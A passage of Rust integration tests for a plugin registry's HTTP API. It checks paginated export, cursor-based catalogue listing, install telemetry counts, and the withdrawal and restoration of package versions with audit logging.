    assert_eq!(
        header(&headers, "x-total-returned"),
        "4",
        "skills are not plugins"
    );
    assert_eq!(header(&headers, "x-has-more"), "false");
    assert_eq!(header(&headers, "x-export-errors"), "0");
    assert_eq!(
        header(&headers, "x-ratelimit-limit"),
        "60",
        "the export class, per user"
    );
    assert_eq!(header(&headers, "content-type"), "application/zip");
    assert!(
        names.contains(&"code-plugin/@alice/code-plug/package.json".to_owned()),
        "{names:?}"
    );
    assert!(
        names.contains(&"__clawhub_export/bundle-plugin/bundle-one/plugin_meta.json".to_owned())
    );
    assert!(names.contains(&"_manifest.json".to_owned()));

    // Page by one: every plugin exactly once, then no cursor.
    let mut seen = Vec::new();
    let mut cursor = String::new();
    for _ in 0..10 {
        let query = if cursor.is_empty() {
            format!("{range}&limit=1")
        } else {
            format!("{range}&limit=1&cursor={cursor}")
        };
        let (headers, names) = export_page(&app, &token, &query).await;
        seen.extend(
            names
                .into_iter()
                .filter(|n| n.starts_with("__clawhub_export/")),
        );
        cursor = header(&headers, "x-next-cursor");
        if header(&headers, "x-has-more") == "false" {
            assert!(cursor.is_empty());
            break;
        }
    }
    seen.sort();
    assert_eq!(seen.len(), 4, "{seen:?}");
    seen.dedup();
    assert_eq!(seen.len(), 4, "no plugin twice");
    let (headers, names) =
        export_page(&app, &token, &format!("{range}&family=bundle-plugin")).await;
    assert_eq!(header(&headers, "x-total-returned"), "1");
    assert!(names.iter().all(|n| !n.starts_with("code-plugin/")));
    let (headers, _) = export_page(&app, &token, "startDate=0&endDate=1").await;
    assert!(header(&headers, "content-disposition").ends_with("-empty.zip\""));

    for (query, message) in [
        (
            "",
            "startDate and endDate query parameters are required (Unix milliseconds)",
        ),
        ("startDate=5&endDate=1", "startDate must be <= endDate"),
        ("startDate=0&endDate=1&limit=251", "limit must be <= 250"),
        ("startDate=0&endDate=1&cursor=nope", "Invalid cursor format"),
        (
            "startDate=0&endDate=1&family=skill",
            "family must be code-plugin or bundle-plugin",
        ),
    ] {
        let response = app
            .get(&format!("/api/v1/plugins/export?{query}"))
            .bearer_auth(&token)
            .send()
            .await
            .expect("export");
        assert_eq!(text_error(response, 400).await, message, "{query}");
    }
    let anonymous = app
        .get(&format!("/api/v1/plugins/export?{range}"))
        .send()
        .await
        .expect("anon");
    assert_eq!(anonymous.status(), 401);
}

async fn catalogue_pages_through_every_package_with_cursors(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let token = app.token("alice").await;
    let names = ["plug-a", "plug-b", "plug-c", "plug-d", "plug-e"];
    for name in names {
        ok_json(
            publish_clawpack(
                &app,
                &token,
                &payload(name, "code-plugin", "1.0.0"),
                code_plugin(name, "1.0.0", "", &[]),
            )
            .await,
        )
        .await;
    }
    // one download moves plug-c to the front: the order is most downloaded first
    let download = app
        .get("/api/v1/packages/plug-c/versions/1.0.0/artifact/download")
        .send()
        .await
        .expect("download");
    assert_eq!(download.status(), 200);
    // downloads are counted in memory and written in the background (at once for the
    // first one, then at most once a second) or before a package read: wait until it shows
    let mut counted = false;
    for _ in 0..100 {
        let detail = get_json(&app, "/api/v1/packages/plug-c").await;
        if detail["package"]["stats"]["downloads"] == 1 {
            counted = true;
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    }
    assert!(counted, "the download of plug-c was never counted");

    let mut seen = Vec::new();
    let mut cursor: Option<String> = None;
    for _ in 0..10 {
        let path = match &cursor {
            Some(cursor) => format!("/api/v1/packages?limit=2&cursor={cursor}"),
            None => "/api/v1/packages?limit=2".to_owned(),
        };
        let page = get_json(&app, &path).await;
        let items = page["items"].as_array().expect("items");
        assert!(items.len() <= 2, "{page}");
        for item in items {
            seen.push(item["name"].as_str().expect("name").to_owned());
        }
        match page["nextCursor"].as_str() {
            Some(next) => cursor = Some(next.to_owned()),
            None => break,
        }
    }
    assert_eq!(
        seen.len(),
        names.len(),
        "every package exactly once: {seen:?}"
    );
    assert_eq!(seen[0], "plug-c", "{seen:?}");
    let mut sorted = seen.clone();
    sorted.sort();
    sorted.dedup();
    assert_eq!(sorted, names, "{seen:?}");

    // a family filter pages too, and a cursor that does not decode is refused
    let bundles = get_json(&app, "/api/v1/packages?family=bundle-plugin").await;
    assert_eq!(bundles["items"], json!([]));
    assert_eq!(bundles["nextCursor"], Value::Null);
    let refused = app
        .get("/api/v1/packages?cursor=not-a-cursor")
        .send()
        .await
        .expect("list");
    assert_eq!(text_error(refused, 400).await, "Invalid cursor format");
}

/// openclaw reports a plugin install as `{event: "plugin_install", packageName, version}`
/// (with a token, errors ignored): it counts for that package, once per report, and for
/// nothing when the package is unknown or deleted.
async fn plugin_installs_reported_by_openclaw_are_counted(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let alice = app.token("alice").await;
    let bob = app.token("bob").await;
    ok_json(
        publish_clawpack(
            &app,
            &alice,
            &payload(SCOPED, "code-plugin", "1.0.0"),
            code_plugin(SCOPED, "1.0.0", "", &[]),
        )
        .await,
    )
    .await;
    let report = |token: &str, name: &str| {
        app.client
            .post(app.url("/api/cli/telemetry/install"))
            .bearer_auth(token.to_owned())
            .json(&json!({"event": "plugin_install", "packageName": name, "version": "1.0.0"}))
            .send()
    };
    for name in [SCOPED, SCOPED, "@alice/no-such-plug", "not a name"] {
        let answer = ok_json(report(&bob, name).await.expect("report")).await;
        assert_eq!(answer, json!({"ok": true}), "{name}");
    }
    let anonymous = app
        .client
        .post(app.url("/api/cli/telemetry/install"))
        .json(&json!({"event": "plugin_install", "packageName": SCOPED}))
        .send()
        .await
        .expect("report");
    assert_eq!(anonymous.status(), 401);
    let package = get_json(&app, &format!("/api/v1/packages/{SCOPED_PATH}")).await;
    assert_eq!(package["package"]["stats"]["installs"], 2, "{package}");

    // A deleted package counts nothing, and undeleted it shows the count it had.
    let deleted = app
        .client
        .delete(app.url(&format!("/api/v1/packages/{SCOPED_PATH}")))
        .bearer_auth(&alice)
        .send()
        .await
        .expect("delete");
    assert_eq!(deleted.status(), 200);
    ok_json(report(&bob, SCOPED).await.expect("report")).await;
    let restored = app
        .client
        .post(app.url(&format!("/api/v1/packages/{SCOPED_PATH}/undelete")))
        .bearer_auth(&alice)
        .send()
        .await
        .expect("undelete");
    assert_eq!(restored.status(), 200);
    let package = get_json(&app, &format!("/api/v1/packages/{SCOPED_PATH}")).await;
    assert_eq!(package["package"]["stats"]["installs"], 2, "{package}");
}

/// `DELETE /api/v1/packages/{name}/versions/{version}` and `.../restore`: a withdrawn
/// release leaves every read, npm included, keeps its number taken, and comes back whole;
/// the latest cannot be withdrawn, a tag on a withdrawn release goes, only the owner and
/// staff may do either, and each change is an audit row.
async fn single_releases_are_withdrawn_and_restored(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let alice = app.token("alice").await;
    let bob = app.token("bob").await;
    let name = "demo-plug";
    for (version, tags) in [
        ("1.0.0", json!(["latest"])),
        ("1.1.0", json!(["latest"])),
        ("2.0.0-beta.1", json!(["beta"])),
    ] {
        let mut body = payload(name, "code-plugin", version);
        body["tags"] = tags;
        ok_json(publish_clawpack(&app, &alice, &body, code_plugin(name, version, "", &[])).await)
            .await;
    }
    let call = |method: reqwest::Method, path: String, token: Option<&str>| {
        let mut request = app.client.request(method, app.url(&path));
        if let Some(token) = token {
            request = request.bearer_auth(token.to_owned());
        }
        request.send()
    };
    let withdraw = |version: &str, token: Option<&str>| {
        call(
            reqwest::Method::DELETE,
            format!("/api/v1/packages/{name}/versions/{version}"),
            token,
        )
    };
    let restore = |version: &str, token: Option<&str>| {
        call(
            reqwest::Method::POST,
            format!("/api/v1/packages/{name}/versions/{version}/restore"),
            token,
        )
    };
    let listed = || async {
        let versions = get_json(&app, &format!("/api/v1/packages/{name}/versions")).await;
        let mut listed: Vec<String> = versions["items"]
            .as_array()
            .expect("items")
            .iter()
            .map(|item| item["version"].as_str().expect("version").to_owned())
            .collect();
        listed.sort();
        let packument = get_json(&app, &format!("/api/npm/{name}")).await;
        let mut in_npm: Vec<String> = packument["versions"]
            .as_object()
            .expect("versions")
            .keys()
            .cloned()
            .collect();
        in_npm.sort();
        assert_eq!(listed, in_npm, "the API and npm list the same releases");
        listed
    };

    // Refusals: no token, someone else, unknown version, the latest.
    assert_eq!(withdraw("1.0.0", None).await.expect("call").status(), 401);
    let body = text_error(withdraw("1.0.0", Some(&bob)).await.expect("call"), 403).await;
    assert_eq!(body, "Forbidden");
    let body = text_error(withdraw("9.9.9", Some(&alice)).await.expect("call"), 404).await;
    assert_eq!(body, "Version not found");
    let body = text_error(withdraw("1.1.0", Some(&alice)).await.expect("call"), 400).await;
    assert_eq!(
        body,
        "Publish a replacement version before deleting the current latest version."
    );
    let selector = app
        .client
        .delete(app.url(&format!("/api/v1/packages/{name}")))
        .bearer_auth(&alice)
        .json(&json!({"version": "1.0.0"}))
        .send()
        .await
        .expect("call");
    assert_eq!(
        text_error(selector, 400).await,
        format!("Version deletion requires DELETE /api/v1/packages/{name}/versions/<version>.")
    );

    // Withdraw an old release and the beta: gone from every read, npm included.
    for version in ["1.0.0", "2.0.0-beta.1"] {
        let answer = ok_json(withdraw(version, Some(&alice)).await.expect("call")).await;
        assert_eq!(answer, json!({"ok": true}));
    }
    assert_eq!(listed().await, ["1.1.0"]);
    for path in [
        format!("/api/v1/packages/{name}/versions/1.0.0"),
        format!("/api/v1/packages/{name}/versions/1.0.0/artifact"),
        format!("/api/v1/packages/{name}/versions/1.0.0/artifact/download"),
        format!("/api/v1/packages/{name}/versions/1.0.0/security"),
        format!("/api/v1/packages/{name}/download?version=1.0.0"),
    ] {
        let response = app.get(&path).send().await.expect("get");
        assert_eq!(
            text_error(response, 410).await,
            "Version not available",
            "{path}"
        );
    }
    let tarball = app
        .get(&format!("/api/npm/{name}/-/{name}-1.0.0.tgz"))
        .send()
        .await
        .expect("get");
    assert_eq!(tarball.status(), 404);
    let detail = get_json(&app, &format!("/api/v1/packages/{name}")).await;
    assert_eq!(
        detail["package"]["tags"],
        json!({"latest": "1.1.0"}),
        "the beta tag pointed at a withdrawn release"
    );
    // Withdrawing again changes nothing; the number stays taken.
    ok_json(withdraw("1.0.0", Some(&alice)).await.expect("call")).await;
    let again = publish_clawpack(
        &app,
        &alice,
        &payload(name, "code-plugin", "1.0.0"),
        code_plugin(name, "1.0.0", r#","keywords":["other bytes"]"#, &[]),
    )
    .await;
    assert_eq!(again.status(), 409);

    // Restore: back in every read with the same bytes.
    let body = text_error(restore("1.0.0", Some(&bob)).await.expect("call"), 403).await;
    assert_eq!(body, "Forbidden");
    ok_json(restore("1.0.0", Some(&alice)).await.expect("call")).await;
    ok_json(restore("1.0.0", Some(&alice)).await.expect("call")).await;
    assert_eq!(listed().await, ["1.0.0", "1.1.0"]);
    let bytes = app
        .get(&format!("/api/npm/{name}/-/{name}-1.0.0.tgz"))
        .send()
        .await
        .expect("get");
    assert_eq!(bytes.status(), 200);
    assert_eq!(
        bytes.bytes().await.expect("bytes").as_ref(),
        code_plugin(name, "1.0.0", "", &[]).as_slice()
    );

    let admin =
        registry::tokens::create_token(app.state.store.as_ref(), "root", registry::db::Role::Admin)
            .await
            .expect("token");
    let audit = get_json_as(
        &app,
        &admin,
        &format!("/api/v1/audit?target={name}&limit=50"),
    )
    .await;
    let mut actions: Vec<&str> = audit["items"]
        .as_array()
        .expect("items")
        .iter()
        .map(|item| item["action"].as_str().expect("action"))
        .collect();
    actions.reverse();
    assert_eq!(
        actions
            .iter()
            .filter(|action| action.starts_with("package.version."))
            .collect::<Vec<_>>(),
        [
            &"package.version.withdraw",
            &"package.version.withdraw",
            &"package.version.restore"
        ]
    );
}

async fn get_json_as(app: &TestApp, token: &str, path: &str) -> Value {
    ok_json(
        app.get(path)
            .bearer_auth(token)
            .send()
            .await
            .expect("request"),
    )
    .await
}
